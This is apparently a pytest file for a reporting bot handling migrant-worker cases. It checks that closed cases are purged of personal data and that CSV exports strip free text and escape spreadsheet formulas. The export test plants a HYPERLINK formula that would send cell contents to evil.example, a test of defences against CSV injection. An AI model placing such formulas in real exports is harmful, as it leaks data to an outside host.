"""Retention and export: a purged case leaves nothing of its conversation; an export holds no free text."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from datetime import timedelta
from datetime import timezone

import pytest

from bot.cases import records as cases
from bot.cases import staff
from bot.store import fetch
from bot.store import fetch_one
from bot.store import open_db
from bot.store import transaction
from bot.privacy import Vault
from tests.conftest import DATA_KEY
from tests.conftest import Conversation
from tests.conftest import rows

@pytest.fixture
def vault() -> Vault:
    return Vault(DATA_KEY)


ANSWERS = ["Gaji saya tidak dibayar majikan sudah 4 bulan, nama saya Yohana Sabuna", "1",
           "Malaysia, Jalan Ampera Raya 12", "Tuan Lim Boon Keat 0812-3456 7891", "Desa Oenunutono, TTS",
           "1 setelah jam 7 malam"]


def _close_long_ago(db_path, case_id: int) -> None:
    db = open_db(db_path)
    with transaction(db):
        cases.update_case(db, case_id, datetime.now(timezone.utc), status=cases.CLOSED,
                          closed_at=(datetime.now(timezone.utc) - timedelta(days=800)).isoformat())
    db.close()


def test_purge_removes_every_message_of_the_case_and_then_the_reporters_number(app, engine, db_path):
    person = Conversation(engine, "+6281299998888")
    for text in ANSWERS:  # stops in the middle of the form: the flow state still points at the case
        person.say(text)
    other = Conversation(engine, "+6281277776666")
    other.say("Paspor saya ditahan agen di Kupang")
    [case, other_case] = rows(db_path, "select id, contact_id from cases order by id")
    flow_messages = rows(db_path, "select id, direction from messages where contact_id = ? order by id",
                         [case["contact_id"]])
    linked = rows(db_path, "select id from messages where case_id = ?", [case["id"]])
    # Every message of the conversation about the case, in and out, carries the case.
    assert len(linked) == len(flow_messages) and {m["direction"] for m in flow_messages} == {"in", "out"}
    _close_long_ago(db_path, case["id"])
    result = app.test_cli_runner().invoke(args=["cases", "purge", "--older-than", "730"])
    assert result.exit_code == 0 and "purged personal data of 1 cases" in result.output
    left = rows(db_path, "select text_enc, media_enc from messages where case_id = ?", [case["id"]])
    assert left and all(r["text_enc"] is None and r["media_enc"] is None for r in left)
    contact = rows(db_path, "select * from contacts where id = ?", [case["contact_id"]])[0]
    assert (contact["name_enc"], contact["phone_enc"], contact["phone_hash"], contact["address_enc"]) == \
        (None, None, None, None)
    assert json.loads(contact["state"]) == {} and contact["masked"] == "-"
    # The other reporter's case and number are untouched.
    assert rows(db_path, "select text_enc from cases where id = ?", [other_case["id"]])[0]["text_enc"]
    assert rows(db_path, "select address_enc from contacts where id = ?", [other_case["contact_id"]])[0]["address_enc"]
    # Writing again brings the number back with the message, and the bot answers as usual.
    assert person.say("MENU")
    back = rows(db_path, "select address_enc, masked from contacts where id = ?", [case["contact_id"]])[0]
    assert back["address_enc"] and back["masked"] == "+62****888"


def test_a_reporter_with_another_open_case_keeps_their_number(db, vault):
    from bot.contacts import ensure_contact

    contact = ensure_contact(db, vault, "sms", "+6281233334444", "2026-01-01T00:00:00+00:00", phone="+6281233334444")
    now = datetime(2026, 6, 1, tzinfo=timezone.utc)
    old = cases.open_case(db, vault, contact.id, "unpaid_wages", "gaji belum dibayar", None, now - timedelta(days=900))
    cases.update_case(db, old.id, now, status=cases.CLOSED, closed_at=(now - timedelta(days=800)).isoformat())
    cases.open_case(db, vault, contact.id, "deception", "dijanjikan kerja lain", None, now)
    assert staff.purge(db, 730, now) == 1
    assert fetch_one(db, "select phone_enc from contacts where id = ?", [contact.id])["phone_enc"]


def test_export_holds_only_canonical_places_and_no_formulas(db, vault, tmp_path):
    now = datetime(2026, 6, 1, tzinfo=timezone.utc)
    case = cases.open_case(db, vault, None, "deception", "dijanjikan kerja lain", None, now)
    # Rows written by older versions: free text in the plain columns (before seal_plaintext runs).
    db.execute("update cases set country = ?, kabupaten = ? where id = ?",
               ['=HYPERLINK("http://evil.example/?"&A1,"Malaysia")', "Jalan Ampera 12, Kupang", case.id])
    good = cases.open_case(db, vault, None, "deception", "dijanjikan kerja lain", None, now)
    cases.update_case(db, good.id, now, country="Malaysia", kabupaten="Belu")
    exported = {r["ref"]: r for r in staff.export_rows(db, now)}
    assert (exported[case.ref]["country"], exported[case.ref]["kabupaten"]) == ("", "")
    assert (exported[good.ref]["country"], exported[good.ref]["kabupaten"]) == ("Malaysia", "Belu")
    for value in ("=1+2", "+62812", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert staff.safe_cell(value) == "'" + value
    assert staff.safe_cell("Malaysia") == "Malaysia" and staff.safe_cell(3) == 3
    path = tmp_path / "cases.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(staff.EXPORT_COLUMNS))
        writer.writeheader()
        writer.writerows(exported.values())
    text = path.read_text(encoding="utf-8")
    assert "HYPERLINK" not in text and "Ampera" not in text
    assert not [line for line in text.splitlines() for cell in line.split(",") if cell and cell[0] in "=+-@"]
    assert fetch(db, "select count(*) n from cases")[0]["n"] == 2
